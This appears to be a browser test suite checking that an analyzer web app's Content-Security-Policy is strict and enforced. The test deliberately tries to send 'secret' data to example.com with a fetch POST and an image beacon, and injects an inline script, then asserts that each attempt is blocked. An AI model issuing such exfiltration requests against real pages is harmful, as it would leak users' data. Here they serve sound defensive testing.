// Privacy: both outputs carry a strict Content-Security-Policy, and the policy really blocks a
// script on the page from sending anything anywhere (fetch, image, injected inline script). Once
// the module is loaded, dist/ also forbids connections and images from its own server (a second
// policy added by the bootstrap), like the single file.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { appTargets, distDir, launch, openApp, singleFile, workerPing } from "./harness.mjs";

/** The policy of an HTML text as { directive: [sources] }; fails unless there is exactly one. */
function policyOf(html) {
  const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/g)];
  assert.equal(metas.length, 1, "exactly one Content-Security-Policy meta");
  const head = html.slice(0, html.indexOf("</head>"));
  const metaAt = head.indexOf(metas[0][0]);
  assert.ok(metaAt >= 0 && metaAt < head.search(/<(script|link|style)\b/), "the policy comes before any script or style");
  return Object.fromEntries(
    metas[0][1]
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...sources]) => [name, sources]),
  );
}

function assertStrict(policy, mode) {
  const hashes = (list) => list.length > 0 && list.every((s) => /^'sha256-[A-Za-z0-9+/]{43}='$/.test(s));
  assert.deepEqual(policy["default-src"], ["'none'"]);
  assert.deepEqual(policy["object-src"], ["'none'"]);
  assert.deepEqual(policy["base-uri"], ["'none'"]);
  assert.deepEqual(policy["form-action"], ["'none'"]);
  assert.deepEqual(policy["worker-src"], ["blob:"]);
  assert.deepEqual(policy["connect-src"], mode === "dist" ? ["'self'"] : ["'none'"]);
  const script = policy["script-src"];
  assert.ok(script.includes("'wasm-unsafe-eval'"));
  const scriptRest = script.filter((s) => s !== "'wasm-unsafe-eval'");
  if (mode === "dist") {
    assert.deepEqual(scriptRest, ["'self'"]);
    assert.deepEqual(policy["style-src"], ["'self'"]);
  } else {
    assert.ok(hashes(scriptRest), `single-file script-src must be hashes only: ${scriptRest}`);
    assert.ok(hashes(policy["style-src"]), `single-file style-src must be hashes only: ${policy["style-src"]}`);
  }
  for (const [name, sources] of Object.entries(policy)) {
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "*", "http:", "https:", "'strict-dynamic'"]) {
      assert.ok(!sources.includes(bad), `${name} allows ${bad}`);
    }
    assert.ok(!sources.some((s) => /^(https?:)?\/\//.test(s)), `${name} names a host: ${sources}`);
  }
  for (const source of policy["img-src"]) assert.ok(["'self'", "data:", "blob:"].includes(source), `img-src ${source}`);
}

test("the CSP of dist/index.html is strict", () => {
  assertStrict(policyOf(readFileSync(join(distDir, "index.html"), "utf8")), "dist");
});

test("the CSP of dist/ipvi-analyzer.html is strict and its hashes match its inline script and style", async () => {
  const html = readFileSync(singleFile, "utf8");
  const policy = policyOf(html);
  assertStrict(policy, "single");
  const { createHash } = await import("node:crypto");
  const hash = (text) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
  const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => hash(m[1]));
  const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => hash(m[1]));
  assert.deepEqual(scripts, policy["script-src"].filter((s) => s.startsWith("'sha256")));
  assert.deepEqual(styles, policy["style-src"]);
  assert.ok(!/<script[^>]+src=/.test(html), "no external script");
  assert.ok(!/<link[^>]+stylesheet/.test(html), "no external style sheet");
});

let browser;
let served;
before(async () => {
  browser = await launch();
  served = await appTargets();
});
after(async () => {
  await served?.close();
  await browser?.close();
});

for (const mode of ["dist", "single"]) {
  describe(`the policy is enforced (${mode === "dist" ? "dist over http" : "single file from file://"})`, () => {
    test("fetch, image and injected script to elsewhere are blocked, with a violation report", async () => {
      const target = served.targets.find((x) => x.mode === mode);
      const { page, requests, errors } = await openApp(browser.context, target.url);
      assert.ok(await page.$('head > meta[http-equiv="Content-Security-Policy"]'));
      const result = await page.evaluate(async (mode) => {
        const violations = [];
        document.addEventListener("securitypolicyviolation", (e) =>
          violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
        );
        const outcome = {};
        try {
          await fetch("https://example.com/collect?data=secret", { method: "POST", body: "secret" });
          outcome.fetch = "sent";
        } catch (e) {
          outcome.fetch = "blocked";
        }
        // The page's own server too: the wasm was fetched once, while loading, and never again.
        try {
          await fetch("ipvi_analyzer_bg.wasm");
          outcome.localFetch = "sent";
        } catch (e) {
          outcome.localFetch = "blocked";
        }
        await new Promise((resolve) => {
          const img = new Image();
          img.onload = () => ((outcome.localImage = "loaded"), resolve());
          img.onerror = () => ((outcome.localImage = "blocked"), resolve());
          img.src = "pixel.png?data=secret";
        });
        outcome.policies = [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map((m) => m.content);
        await new Promise((resolve) => {
          const img = new Image();
          img.onload = () => ((outcome.image = "loaded"), resolve());
          img.onerror = () => ((outcome.image = "blocked"), resolve());
          img.src = "https://example.com/pixel.png?data=secret";
        });
        window.__injected = false;
        const script = document.createElement("script");
        script.textContent = "window.__injected = true;";
        document.body.append(script);
        outcome.inlineScript = window.__injected ? "ran" : "blocked";
        await new Promise((resolve) => setTimeout(resolve, 200)); // violation events are queued
        return { outcome, violations };
      }, mode);
      assert.equal(result.outcome.fetch, "blocked");
      assert.equal(result.outcome.image, "blocked");
      assert.equal(result.outcome.inlineScript, "blocked");
      const directives = result.violations.map((v) => v.directive);
      assert.ok(directives.includes("connect-src"), `violations: ${JSON.stringify(result.violations)}`);
      assert.ok(directives.includes("img-src"), `violations: ${JSON.stringify(result.violations)}`);
      assert.ok(directives.includes("script-src-elem"), `violations: ${JSON.stringify(result.violations)}`);
      assert.equal(result.outcome.localFetch, "blocked", "no connection to the page's own server");
      assert.equal(result.outcome.localImage, "blocked", "no image from the page's own server");
      const after = result.outcome.policies.at(-1);
      assert.equal(after, "connect-src 'none'; img-src data: blob:", `the policies in force: ${result.outcome.policies}`);
      const sameOrigin = result.violations.filter((v) => !/example\.com/.test(v.blocked) && v.blocked !== "inline");
      assert.deepEqual(
        [...new Set(sameOrigin.map((v) => v.directive))].sort(),
        ["connect-src", "img-src"],
        `violations: ${JSON.stringify(result.violations)}`,
      );
      // The worker, started from a blob: URL under both policies, still works.
      assert.deepEqual((await workerPing(page, 3)).ready, true);
      const sent = requests.entries.filter((e) => /example\.com/.test(e.url) && !e.failure);
      assert.deepEqual(sent.map((e) => e.url), [], "nothing reached the network");
      assert.equal(await page.$("#fatal-error"), null);
      assert.deepEqual(errors.filter((e) => e.startsWith("pageerror")), []);
      await page.close();
    });
  });
}
